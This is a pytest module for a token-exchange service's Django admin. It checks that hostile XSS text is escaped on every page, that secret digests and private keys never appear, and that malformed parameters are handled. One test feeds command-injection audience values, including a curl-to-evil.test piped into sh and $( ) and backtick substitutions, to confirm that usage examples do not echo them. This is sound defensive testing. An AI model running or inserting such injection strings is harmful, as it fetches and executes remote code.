"""Hostile text is escaped on every admin page, and no page contains a digest."""

from __future__ import annotations

import pytest
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from tests.admin import page_inventory
from tests.admin.conftest import hidden_fields
from tests.admin.tenant_rows import make_rows, text_of
from tests.support.admin_urls import admin_url
from tests.support.factories import make_api_key, make_organization
from tests.support.xss import EVIL, effects, evil
from token_exchange.models import AccessToken, AuditEvent, Credential, HourlyCount, SigningKey

pytestmark = pytest.mark.django_db

SHOWN = {
    "actor",
    "apikey",
    "clientapp",
    "detail",
    "label",
    "metadata",
    "new",
    "origin",
    "organization",
    "owner",
    "reason",
    "username",
    "why",
}
"""The hostile texts that some page must show, or this test would look at nothing."""

PARAMETERS = ("q", "organization", "state", "p", "o", "all", "credential", "period", "x")

LISTS = (
    "apikey",
    "clientapp",
    "accesstoken",
    "organization",
    "signingkey",
    "auditevent",
    "dashboard",
)


@pytest.fixture
def registry(token_exchange_settings):
    token_exchange_settings(SCOPES={"a": evil("label"), "b": "B"})


@pytest.fixture
def rows(registry, operator):
    """Rows that have hostile text wherever a row can have it."""
    operator.user.username = evil("username")
    operator.user.first_name = EVIL[:100]
    operator.user.save()
    organization = make_organization(name=evil("organization"), slug="ours")
    rows = page_inventory.complete(make_rows(organization, evil("owner")))
    for model in ("apikey", "clientapp"):
        Credential.objects.filter(pk=rows[model].pk).update(
            name=evil(model),
            metadata={evil("key"): [evil("metadata")]},
            # What no form takes, but a database may hold.
            audience=[evil("audience")],
            scopes=["a", evil("scope")],
            last_used_from=evil("used")[:64],
            previous_secret_last_used_from=evil("previous")[:64],
            revocation_reason=evil("reason"),
            created_by=operator.user,
        )
    AccessToken.objects.update(scope=evil("granted"), audience=[evil("heard")])
    AuditEvent.objects.bulk_create(
        AuditEvent(
            occurred_at=rows["apikey"].created_at,
            event=event,
            target_type=target_type,
            target=rows["apikey"].identifier,
            organization=str(organization.pk),
            actor_id=evil("actor_id"),
            actor=evil("actor"),
            origin=evil("origin"),
            reason=evil("why"),
            details={evil("detail"): {evil("inner"): [evil("value")]}},
        )
        for event in AuditEvent.Event.values
        for target_type in AuditEvent.TargetType.values
    )
    HourlyCount.objects.bulk_create(
        HourlyCount(
            hour=timezone.now().replace(minute=0, second=0, microsecond=0),
            organization=str(organization.pk),
            identifier=identifier,
            outcome=outcome,
            count=7,
        )
        for identifier in ("", rows["apikey"].identifier, evil("counted")[:64])
        for outcome in ("exchanged", evil("because")[:40])
    )
    return {**rows, "auditevent": AuditEvent.objects.latest("pk")}


def answers(operator, rows):
    """Walk through the admin, and return each page that is met on the way."""
    yield from (operator.get(reverse(f"admin:{name}")) for name in ("index", "login"))
    yield operator.get(reverse("admin:app_list", args=[page_inventory.APP]))
    yield from _lists(operator)
    for name in page_inventory.all_pages():
        url = page_inventory.url_of(name, rows)
        yield operator.get(url)
        if "delete" not in name:
            yield operator.post(
                url, {"version": evil("version"), "signed_identifier": evil("signed_identifier")}
            )
    yield from _issue(operator, rows)
    for model in ("apikey", "clientapp"):
        yield from _end(operator, model, rows[model])
    for name in page_inventory.all_pages():
        if name.endswith(("_history", "_change", "_changelist")):
            yield operator.get(page_inventory.url_of(name, rows))
    yield operator.get(reverse("admin:index"))


def _lists(operator):
    for model in LISTS:
        url = admin_url(model, "changelist")
        for parameter in (
            "q",
            "organization",
            "state",
            "e",
            "p",
            "o",
            "all",
            "credential",
            "period",
            "x",
        ):
            yield operator.get(url, {parameter: evil("q")}, follow=True)


def _issue(operator, rows):
    organization = rows["organization"].pk
    for model in ("apikey", "clientapp"):
        url = admin_url(model, "add")
        bad = {name: evil(name) for name in _field_names(operator.get(url))}
        yield operator.send(url, **bad)
        yield operator.send(url, **{**bad, "organization": organization})
        good = {"name": evil("new"), "organization": organization, "scopes": ["a"]}
        values = {**hidden_fields(operator.get(url)), **good}
        yield operator.post(url, values)
        yield operator.post(url, values)


def _field_names(response):
    return list(response.context["adminform"].form.fields)


def _end(operator, model, row):
    rotate, revoke = admin_url(model, "rotate", row), admin_url(model, "revoke", row)
    yield operator.send(rotate, overlap=evil("overlap"))
    yield operator.send(rotate, overlap="compromised")
    for action in ("rotate_selected", "revoke_selected"):
        yield operator.choose(admin_url(model, "changelist"), action, row)
    yield operator.send(revoke, reason=evil("reason") * 9)
    yield operator.post(revoke, {"confirmed": "yes", "reason": evil("reason")}, follow=True)
    yield operator.choose(admin_url(model, "changelist"), "revoke_selected", row)


def test_hostile_text_is_inert(operator, rows):
    seen = set()
    for response in answers(operator, rows):
        if response.headers["Content-Type"].startswith("text/html"):
            assert effects(response) == [], response.request["PATH_INFO"]
            assert EVIL not in text_of(response)
            seen |= {each for each in SHOWN if escape(evil(each)) in response.text}
        else:
            assert response.headers["Content-Disposition"].startswith("attachment")
            assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert seen == SHOWN


def test_no_page_holds_a_digest(operator, rows):
    hidden = {
        *Credential.objects.values_list("secret_digest", flat=True),
        *Credential.objects.values_list("previous_secret_digest", flat=True),
        *SigningKey.objects.values_list("encrypted_private_key", flat=True),
    }
    AccessToken.objects.update(signing_input="signing-input-of-a-token")
    hidden.add("signing-input-of-a-token")
    assert None not in hidden
    for response in answers(operator, rows):
        assert [each for each in hidden if str(each) in text_of(response)] == []
        for name in ("secret_digest", "encrypted_private_key", "signing_input"):
            assert name not in text_of(response)


@pytest.mark.parametrize(
    "audience",
    [
        "https://x.test/;curl${IFS}evil.test|sh",
        "https://x.test/$(evil)",
        "https://x.test/`evil`",
        "https://x.test/'&evil&'",
        "https://x.test/#evil",
        "https://x.test/{evil}",
    ],
)
def test_lines_that_others_copy_run_nothing(operator, limited, ours, audience):
    """The operator of a tenant writes the audience, and who looks after all of them copies."""
    key = make_api_key(organization=ours, scopes=["a"]).credential
    url = admin_url("apikey", "change", key)
    form = limited.get(url).context["adminform"].form
    values = {name: form[name].value() or "" for name in ("name", "metadata", "scopes")}
    values |= {"audience": audience, "allowed_networks": ""}
    limited.post(url, values)
    assert Credential.objects.get(pk=key.pk).audience == [audience]
    lines = "".join(text for _label, text in operator.get(url).context["usage_examples"])
    assert audience not in lines
    assert "https://issuer.test" in lines


@pytest.mark.parametrize("model", sorted({*LISTS} - {"signingkey"}))
def test_no_list_repeats_a_secret_that_was_searched_for(operator, model):
    issued = make_api_key()
    response = operator.get(admin_url(model, "changelist"), {"q": issued.raw_secret}, follow=True)
    assert issued.raw_secret not in response.text
    assert issued.raw_secret.rpartition(".")[2] not in response.text


def test_the_events_of_any_signing_key_are_found(operator):
    """Also where its name has the length of a secret, and nothing but letters."""
    AuditEvent.objects.bulk_create(
        AuditEvent(occurred_at=timezone.now(), event="signing_key.published", target=kid)
        for kid in ("A" * 43, "A" * 42 + "-")
    )
    for kid in ("A" * 43, "A" * 42 + "-"):
        response = operator.get(admin_url("auditevent", "changelist"), {"q": kid})
        assert [each.target for each in response.context["cl"].result_list] == [kid]


@pytest.mark.parametrize("model", LISTS)
@pytest.mark.parametrize("value", ["\0", "9" * 400, "-1", "\u0661"])
def test_no_list_breaks_on_what_nobody_asks_for(operator, rows, model, value):
    for parameter in (*PARAMETERS, "actor", "event", "time", "to"):
        response = operator.get(admin_url(model, "changelist"), {parameter: value}, follow=True)
        assert response.status_code in {200, 400}


@pytest.mark.parametrize("model", LISTS[:-1])
@pytest.mark.parametrize("value", ["", "\0", "9" * 400, "None", "1.5", "0001-01-01"])
def test_no_action_breaks_on_the_id_of_no_row(operator, rows, model, value):
    operator.raise_request_exception = False
    for action in ("revoke_selected", "rotate_selected", "delete_selected", "x"):
        sent = {"action": action, "index": "0", "_selected_action": [value]}
        assert operator.post(admin_url(model, "changelist"), sent).status_code == 400
